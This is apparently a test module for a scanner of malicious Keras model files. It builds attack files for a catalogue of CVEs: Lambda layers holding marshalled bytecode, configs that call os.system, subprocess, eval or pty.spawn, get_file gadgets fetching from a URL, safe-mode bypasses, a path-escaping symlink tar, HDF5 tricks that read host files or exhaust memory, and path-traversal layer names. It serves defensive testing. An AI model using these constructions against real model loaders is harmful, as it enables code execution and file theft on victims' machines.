"""Attacks on whoever loads a Keras model: rows K1 to K12 of the threat catalogue; `keras_costs.py` has the others."""

from __future__ import annotations

import base64
import io
import marshal
import random
import string
import tarfile
from typing import Any

from tests.attacks.frame import Attacks, Trap, harmless, named, refused
from tests.attacks.keras_files import archive, dense, layer, legacy, sequential, weights

ATTACKS = Attacks()


def bytecode(trap: Trap) -> str:
    """What a Lambda layer keeps of its function; this one would write the marker."""
    return base64.b64encode(marshal.dumps(compile(trap.python, "x", "eval"))).decode()


def function(module: str, name: str, **extra: Any) -> dict[str, Any]:
    """A serialized function of a module."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function", **extra}


# K1: marshalled code


@ATTACKS("K1-01", source="CVE-2024-3660", expects=named("keras_lambda", "critical", "evil"))
def lambda_bytecode(trap: Trap) -> bytes:
    """A Lambda layer holds marshalled bytecode that Keras runs."""
    code = {"class_name": "__lambda__", "config": {"code": bytecode(trap), "defaults": None, "closure": None}}
    return archive(sequential(dense(), layer("Lambda", "evil", config={"function": code})))


@ATTACKS("K1-02", source="CVE-2024-3660", expects=named("keras_lambda", "critical", "evil"))
def lambda_bytecode_as_list(trap: Trap) -> bytes:
    """The same in the form of Keras 2: a list of code, defaults and closure."""
    config = {"function": [bytecode(trap), None, None], "function_type": "lambda"}
    return archive(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K1-03", source="CVE-2024-3660", expects=named("keras_lambda", "critical"))
def lambda_bytecode_as_output_shape(trap: Trap) -> bytes:
    """Not the function but what computes the shape of its output is bytecode."""
    code = {"class_name": "__lambda__", "config": {"code": bytecode(trap)}}
    return archive(sequential(dense(), layer("Lambda", "evil", config={"function": "relu", "output_shape": code})))


@ATTACKS("K1-04", source="CVE-2024-3660", expects=named("keras_lambda", "critical"))
def lambda_bytecode_of_keras_2_output_shape(trap: Trap) -> bytes:
    """The output shape's bytecode in the form of Keras 2."""
    config = {"function": "relu", "output_shape": [bytecode(trap), None, None], "output_shape_type": "lambda"}
    return archive(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K1-05", source="CVE-2024-3660", expects=named("keras_lambda", "critical", "outer/evil"))
def lambda_in_a_nested_model(trap: Trap) -> bytes:
    """One level down, inside a wrapper."""
    code = {"class_name": "__lambda__", "config": {"code": bytecode(trap)}}
    inner = sequential(layer("Lambda", "evil", config={"function": code}))
    inner["config"]["name"] = "outer"
    return archive(sequential(dense(), inner))


@ATTACKS("K1-06", source="CVE-2024-3660", expects=named("keras_lambda", "critical"))
def bytecode_as_activation(trap: Trap) -> bytes:
    """An activation is deserialized like any object."""
    code = {"class_name": "__lambda__", "config": {"code": bytecode(trap)}}
    return archive(sequential(layer("Dense", "dense", config={"units": 3, "activation": code})))


# K2: names of any module


def foreign(number: int, module: str, name: str, expected: Any) -> None:
    """A layer whose class is a function of `module`."""
    ATTACKS.add(
        f"K2-{number:02}",
        f"function_{module}_{name}".replace(".", "_"),
        "The configuration names a function outside Keras, which loading imports and calls.",
        "CVE-2025-1550",
        lambda _trap: archive(sequential(dense(), function(module, name))),
        expected,
    )


CODE = named("keras_foreign_module", "critical", "config.json")
for at, (where, what) in enumerate(
    [
        ("os", "system"),
        ("subprocess", "Popen"),
        ("builtins", "eval"),
        ("builtins", "exec"),
        ("builtins", "__import__"),
        ("posix", "system"),
        ("os.path", "join"),
        ("importlib", "import_module"),
        ("runpy", "run_path"),
        ("pickle", "loads"),
        ("_pickle", "loads"),
        ("numpy", "load"),
        ("torch", "load"),
        ("joblib", "load"),
        ("dill", "loads"),
        ("cloudpickle", "loads"),
        ("pty", "spawn"),
        ("ctypes", "CDLL"),
        ("builtins", "getattr"),
        ("operator", "attrgetter"),
        ("logging.config", "dictConfig"),
        ("venv", "create"),
        ("pip._internal", "main"),
    ],
    start=1,
):
    foreign(at, where, what, CODE)
for at, (where, what) in enumerate(
    [
        ("torch.utils.cpp_extension", "load_inline"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("torch.fx.graph_module", "_exec_with_source"),
        ("numpy.testing._private.utils", "runstring"),
        ("dill._dill", "_create_function"),
        ("pandas", "to_pickle"),
    ],
    start=24,
):
    foreign(at, where, what, CODE)
foreign(32, "tensorflow.python.lib.io.file_io", "delete_file", named("keras_file_operation", "high", "config.json"))
foreign(30, "tensorflow", "py_function", named("keras_file_operation", "high", "config.json"))
foreign(31, "somebody.layers", "Swish", named("keras_foreign_module", "medium", "config.json"))


@ATTACKS("K2-40", source="CVE-2025-1550", expects=named("keras_name_mismatch", "high"))
def registered_under_another_name(trap: Trap) -> bytes:
    """What is shown is Dense, what would be loaded is something else."""
    return archive(sequential(layer("Dense", "dense", config={"units": 3}, registered_name="evil>Payload")))


@ATTACKS("K2-41", source="CVE-2025-1550", expects=named("keras_foreign_module", "critical"))
def class_of_another_module_in_training_config(trap: Trap) -> bytes:
    """Not the model but how it was compiled names a function of Python."""
    return legacy(sequential(dense()), {"loss": function("os", "system"), "metrics": []})


@ATTACKS("K2-42", source="CVE-2025-1550", expects=named("keras_foreign_module", "critical"))
def function_in_compile_config(trap: Trap) -> bytes:
    """The same in a `.keras` file."""
    config = sequential(dense())
    config["compile_config"] = {"optimizer": "adam", "loss": function("subprocess", "run")}
    return archive(config)


@ATTACKS("K2-43", source="https://keras.io/api/saving/", expects=harmless())
def a_function_of_the_users_own(trap: Trap) -> bytes:
    """How Keras itself writes an activation that is a function of the user's: not an attack."""
    return archive(
        sequential(layer("Dense", "dense", config={"units": 3, "activation": function("builtins", "my_act")}))
    )


# K3 and K4: gadgets inside Keras


@ATTACKS("K3-01", source="CVE-2025-8747", expects=named("keras_gadget", "critical", "evil"))
def get_file(trap: Trap) -> bytes:
    """A function of Keras' own that fetches an archive and unpacks it anywhere."""
    config = {"function": function("keras.utils", "get_file"), "arguments": {"origin": trap.url, "extract": True}}
    return archive(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K3-02", source="CVE-2025-8747", expects=named("keras_gadget", "critical"))
def get_file_by_its_inner_name(trap: Trap) -> bytes:
    """By the module in which it really lives."""
    config = {"function": function("keras.src.utils.file_utils", "get_file"), "arguments": {"origin": trap.url}}
    return archive(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K3-03", source="CVE-2025-8747", expects=named("keras_gadget", "critical"))
def load_model_gadget(trap: Trap) -> bytes:
    """A function that loads another model, without safe mode."""
    config = {"function": function("keras.models", "load_model"), "arguments": {"safe_mode": False}}
    return archive(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K4-01", source="CVE-2025-9906", expects=named("keras_gadget", "critical"))
def safe_mode_switched_off(trap: Trap) -> bytes:
    """The first layer switches safe mode off, the second uses that."""
    unlock = function("keras.config", "enable_unsafe_deserialization", inbound_nodes=[{"args": [], "kwargs": {}}])
    code = {"class_name": "__lambda__", "config": {"code": bytecode(trap)}}
    return archive(sequential(unlock, layer("Lambda", "evil", config={"function": code})))


@ATTACKS("K4-02", source="CVE-2025-9906", expects=named("keras_safe_mode_off", "critical"))
def safe_mode_as_an_argument(trap: Trap) -> bytes:
    """A call in the graph passes safe_mode=False."""
    node = {"args": ["model.keras"], "kwargs": {"safe_mode": False}}
    return archive(sequential(layer("Dense", "dense", config={"units": 3}, inbound_nodes=[node])))


def hidden(number: int, module: str, name: str, expected: Any) -> None:
    """A function of Keras that is no part of any model."""
    ATTACKS.add(
        f"K3-{number:02}",
        f"inside_{module}_{name}".replace(".", "_"),
        "The configuration names a function of Keras' own that touches files, or a module that Keras imports.",
        "CVE-2025-8747",
        lambda _trap: archive(
            sequential(layer("Dense", "dense", config={"units": 3, "activation": function(module, name)}))
        ),
        expected,
    )


for at, (where, what) in enumerate(
    [
        ("keras.src.utils.file_utils", "remove"),
        ("keras.src.utils.file_utils", "copy"),
        ("keras.src.utils.file_utils", "makedirs"),
        ("keras.utils", "image_dataset_from_directory"),
        ("keras.src.backend.config", "set_keras_home"),
        ("keras.src.utils.file_utils", "os"),
        ("tensorflow.keras.utils", "split_dataset"),
    ],
    start=50,
):
    hidden(at, where, what, named("keras_gadget", "high", "config.json"))
hidden(60, "keras.activations", "gelu", harmless())
hidden(61, "keras.src.ops.nn", "relu6", harmless())


# K5: the same in the legacy format, where safe mode does not count


@ATTACKS("K5-01", source="CVE-2025-9905", expects=named("keras_lambda", "critical", "evil"))
def lambda_in_a_legacy_file(trap: Trap) -> bytes:
    """Loading a .h5 ignores safe mode."""
    config = {"function": [bytecode(trap), None, None], "function_type": "lambda"}
    return legacy(sequential(dense(), layer("Lambda", "evil", config=config)))


@ATTACKS("K5-02", source="CVE-2025-9905", expects=named("keras_foreign_module", "critical"))
def foreign_module_in_a_legacy_file(trap: Trap) -> bytes:
    """K2 in a .h5."""
    return legacy(sequential(dense(), function("os", "system")))


@ATTACKS("K5-03", source="CVE-2025-9905", expects=named("keras_gadget", "critical"))
def gadget_in_a_legacy_file(trap: Trap) -> bytes:
    """K3 in a .h5."""
    config = {"function": "keras.utils.get_file", "arguments": {"origin": trap.url}}
    return legacy(sequential(dense(), layer("Lambda", "evil", config=config)))


# K7, K11, K12: what is outside a layer


def vocabulary(number: int, name: str, value: Any) -> None:
    """A lookup layer whose vocabulary is not in the file."""

    def make(trap: Trap) -> bytes:
        found = value(trap) if callable(value) else value
        return archive(sequential(layer("StringLookup", "words", config={"vocabulary": found})))

    ATTACKS.add(
        f"K7-{number:02}",
        name,
        "The layer reads a path or address when it is made.",
        "CVE-2025-12058",
        make,
        named("keras_vocabulary_path", "high", "words"),
    )


vocabulary(1, "vocabulary_is_a_local_file", lambda trap: str(trap.secret))
vocabulary(2, "vocabulary_is_an_address", lambda trap: trap.url)
vocabulary(3, "vocabulary_is_a_file_address", lambda trap: f"file://{trap.secret}")
vocabulary(4, "vocabulary_is_in_a_bucket", "gs://bucket/words.txt")
vocabulary(5, "vocabulary_is_a_relative_path", "../../secret.txt")


@ATTACKS("K8-01", source="CVE-2025-12060", expects=refused("unknown_format"))
def tar_for_get_file(trap: Trap) -> bytes:
    """What get_file would unpack: members that leave the folder through links. Here there is no model in it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, "../../.."
        file.addfile(link)
        payload = tarfile.TarInfo("out/marker")
        payload.size = 1
        file.addfile(payload, io.BytesIO(b"x"))
    return out.getvalue()


@ATTACKS("K9-01", source="CVE-2026-0897", expects=named("hdf5_declared_size", "high", "layers/dense/vars"))
def a_tiny_file_declares_a_huge_weight(trap: Trap) -> bytes:
    """Reading it would allocate 35 PiB."""

    def write(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file.create_dataset(
            "layers/dense/vars/0", shape=(1_000_000, 1_000_000, 10_000), chunks=(64, 64, 64), dtype="f4"
        )

    return archive(sequential(dense()), weights(write))


@ATTACKS("K10-01", source="CVE-2026-1669", expects=named("hdf5_external_storage", "high"))
def weights_in_a_file_of_the_host(trap: Trap) -> bytes:
    """The dataset's bytes are those of a local file."""

    def write(file: Any) -> None:
        del file["layers/dense/vars/1"]
        file.create_dataset("layers/dense/vars/1", shape=(22,), dtype="u1", external=[(str(trap.secret), 0, 22)])

    return archive(sequential(dense()), weights(write))


@ATTACKS("K11-01", source="CVE-2026-1462", expects=named("keras_saved_model_layer", "high", "evil"))
def layer_that_loads_a_saved_model(trap: Trap) -> bytes:
    """By a path, when it is made."""
    return archive(sequential(dense(), layer("TFSMLayer", "evil", config={"filepath": str(trap.folder)})))


def hostile_name(number: int, name: str, value: str) -> None:
    """A layer's name as a path."""
    ATTACKS.add(
        f"K12-{number:02}",
        name,
        "Keras makes a path of a layer's name.",
        "CVE-2026-12479",
        lambda _trap: archive(sequential(dense(value))),
        named("keras_name_path", "high"),
    )


hostile_name(1, "name_climbs_out", "../../../pwn")
hostile_name(2, "name_is_absolute", "/tmp/pwn")
hostile_name(3, "name_holds_nul", "nul\0byte")
hostile_name(4, "name_climbs_with_backslashes", "..\\..\\pwn")


@ATTACKS("K12-05", source="CVE-2026-12479", expects=harmless())
def name_of_a_megabyte(trap: Trap) -> bytes:
    """A name is shortened, not echoed."""
    letters = random.Random(12).choices(string.ascii_letters, k=1 << 20)  # noqa: S311
    return archive(sequential(dense("".join(letters))))
